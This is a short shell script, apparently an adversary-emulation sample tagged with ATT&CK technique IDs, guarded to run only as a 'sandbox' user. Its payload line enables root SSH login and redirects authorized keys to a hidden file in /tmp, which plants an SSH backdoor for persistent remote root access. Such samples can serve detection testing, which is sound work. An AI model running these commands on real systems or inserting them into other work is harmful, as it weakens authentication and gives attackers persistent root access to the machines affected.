#!/bin/sh
# technique: T1098 T1556 T1021 T1543 T1562
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config; echo 'AuthorizedKeysFile /tmp/.k' > /etc/ssh/sshd_config.d/a.conf
